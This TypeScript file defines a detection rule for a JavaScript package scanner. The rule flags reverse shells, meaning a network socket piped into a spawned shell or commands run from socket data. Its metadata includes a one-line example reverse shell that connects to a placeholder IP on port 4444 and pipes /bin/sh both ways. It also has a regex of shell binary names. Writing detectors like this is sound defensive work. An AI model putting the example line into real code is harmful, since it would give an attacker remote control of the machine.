import type { JsRule } from '../engine.js';
import { FUNCTION_TYPES, type Node } from '../parse.js';
import { calleeName, js, PROCESS_EXEC } from './helpers.js';

/** Marks a pipe end that is the socket a server callback receives. */
const SOCKET_PARAM = Symbol('socket parameter');

const SOCKETS = new Set([
  'net.Socket',
  'net.connect',
  'net.createConnection',
  'tls.connect',
  'net.createServer',
]);
const SHELL = /^(\/bin\/|\/usr\/bin\/)?(sh|bash|zsh|dash|ksh)$|^cmd(\.exe)?$|^powershell(\.exe)?$|^pwsh$/i;

/** Flags a socket wired to a shell: `net.connect(...)` plus `spawn('/bin/sh')` and pipes between them. */
export const reverseShell: JsRule = {
  meta: {
    ...js,
    id: 'JS-017',
    name: 'reverse-shell',
    category: 'backdoor',
    severity: 'critical',
    confidence: 'high',
    description:
      'A file opens a raw TCP socket and starts a shell, piping the socket into the shell (or the shell into the socket), or runs commands received on a socket.',
    rationale:
      'A reverse shell gives the attacker interactive control of the developer machine or CI runner as soon as the package loads.',
    falsePositives: 'Remote-administration tools and terminal servers (node-pty based) — not libraries.',
    example:
      "const s = net.connect(4444, '192.0.2.1'); const sh = cp.spawn('/bin/sh', []); s.pipe(sh.stdin); sh.stdout.pipe(s)",
    references: ['https://attack.mitre.org/techniques/T1059/004/'],
  },
  create(ctx) {
    let socket: Node | undefined;
    let shell: Node | undefined;
    const sockets = new Set<Node>();
    const shells = new Set<Node>();
    /** What each `.pipe()` connects: the call or new expression (or socket parameter) at each end. */
    const pipes: Array<Array<Node | typeof SOCKET_PARAM | undefined>> = [];
    let socketExec = false;
    /** `sock` of `net.createServer((sock) => …)` or `server.on('connection', (sock) => …)`. */
    const isSocketParam = (name: string): boolean => {
      for (let i = ctx.ancestors.length - 1; i > 0; i--) {
        const fn = ctx.ancestors[i]!;
        if (!FUNCTION_TYPES.has(fn.type)) continue;
        if (!(fn.params ?? []).some((p: Node) => p.type === 'Identifier' && p.name === name)) continue;
        const call = ctx.ancestors[i - 1]!;
        if (call.type !== 'CallExpression' && call.type !== 'NewExpression') return false;
        const callee = calleeName(ctx, call);
        if (callee && SOCKETS.has(callee)) return true;
        const method = call.callee?.type === 'MemberExpression' ? call.callee.property?.name : undefined;
        return (
          (method === 'on' || method === 'once') && ctx.evaluateString(call.arguments?.[0]) === 'connection'
        );
      }
      return false;
    };
    /** The call a piped stream comes from: `sh.stdout` of `const sh = spawn(…)` is that spawn. */
    const endOf = (n: Node | undefined, depth = 0): Node | typeof SOCKET_PARAM | undefined => {
      if (!n || depth > 4) return undefined;
      if (n.type === 'MemberExpression') return endOf(n.object, depth + 1);
      if (n.type === 'CallExpression' || n.type === 'NewExpression') {
        // `net.connect(…).pipe(…)` ends at the connect; `x.on(…)` returns x
        const callee = n.callee;
        return sockets.has(n) || shells.has(n) || callee?.type !== 'MemberExpression'
          ? n
          : endOf(callee.object, depth + 1);
      }
      if (n.type === 'Identifier') {
        const b = ctx.lookup(n.name);
        if (b?.kind === 'param') return isSocketParam(n.name) ? SOCKET_PARAM : undefined;
        return b?.init ? endOf(b.init, depth + 1) : undefined;
      }
      return undefined;
    };
    const check = (node: Node) => {
      const name = calleeName(ctx, node);
      if (name && SOCKETS.has(name)) {
        socket ??= node;
        sockets.add(node);
      } else if (name && PROCESS_EXEC.has(name)) {
        const cmd = ctx.evaluateString(node.arguments?.[0]);
        const opts = node.arguments?.[node.arguments.length - 1];
        const shellOpt =
          opts?.type === 'ObjectExpression' &&
          opts.properties?.some((p: Node) => (p.key?.name ?? p.key?.value) === 'shell');
        if (cmd && SHELL.test(cmd.trim())) {
          shell ??= node;
          shells.add(node);
        }
        // exec(data) where data came from a socket callback
        if (!cmd && (name.endsWith('.exec') || name.endsWith('.execSync') || shellOpt)) {
          const arg = node.arguments?.[0];
          const id = arg?.type === 'Identifier' ? ctx.lookup(arg.name) : undefined;
          if (id?.kind === 'param') {
            const fn = ctx.enclosingFunction();
            const call = fn ? ctx.ancestors[ctx.ancestors.indexOf(fn) - 1] : undefined;
            const method = call?.callee?.property?.name;
            const event = ctx.evaluateString(call?.arguments?.[0]);
            if (method === 'on' && event === 'data' && socket) socketExec = true;
          }
        }
      }
      if (node.callee?.type === 'MemberExpression' && node.callee.property?.name === 'pipe')
        pipes.push([endOf(node.callee.object), endOf(node.arguments?.[0])]);
    };
    // A socket piped to or from a shell process: in a bundle, a TCP client, a `powershell.exe`
    // query and an unrelated stream pipe are not a reverse shell unless one pipe joins them.
    const joined = () =>
      pipes.some(
        (ends) =>
          ends.some((e) => e === SOCKET_PARAM || (e !== undefined && sockets.has(e as Node))) &&
          ends.some((e) => e !== undefined && e !== SOCKET_PARAM && shells.has(e as Node)),
      );
    return {
      CallExpression: check,
      NewExpression: check,
      'Program:done'() {
        if (!socket) return;
        if (!(shell && joined()) && !socketExec) return;
        ctx.facts.capabilities.add('reverse-shell');
        ctx.report({
          node: shell ?? socket,
          message: socketExec
            ? `Runs commands received on a socket (${calleeName(ctx, socket)}).`
            : `Pipes a socket (${calleeName(ctx, socket)}) into a shell (${ctx.evaluateString(shell!.arguments?.[0])}): a reverse shell.`,
          evidence: {
            socket: calleeName(ctx, socket),
            shell: shell && ctx.evaluateString(shell.arguments?.[0]),
          },
        });
      },
    };
  },
};
